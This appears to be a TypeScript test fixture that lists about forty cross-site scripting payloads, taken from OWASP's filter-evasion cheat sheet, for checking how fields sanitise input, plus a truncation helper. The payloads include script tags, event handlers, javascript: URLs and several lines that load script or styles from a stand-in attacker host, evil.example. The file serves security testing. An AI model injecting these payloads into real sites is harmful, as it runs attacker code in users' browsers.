/**
 * Texts that run as script in a page that inserts them as HTML, an attribute, a link or a style, from OWASP's cheat
 * sheet on filter evasion. Each fits into the shortest field that takes a sentence; `cut` shortens it for others.
 */
export const scriptStrings = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script>alert`1`</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=jAvAsCrIpT:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil>',
  '" onmouseover="alert(1)" x="',
  "';alert(1);//",
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  'javascript:/*--></title>*/alert(1)//',
] as const

/** The beginning of the text, as long as the field allows. */
export const cut = (text: string, max: number) => text.slice(0, max).trim()
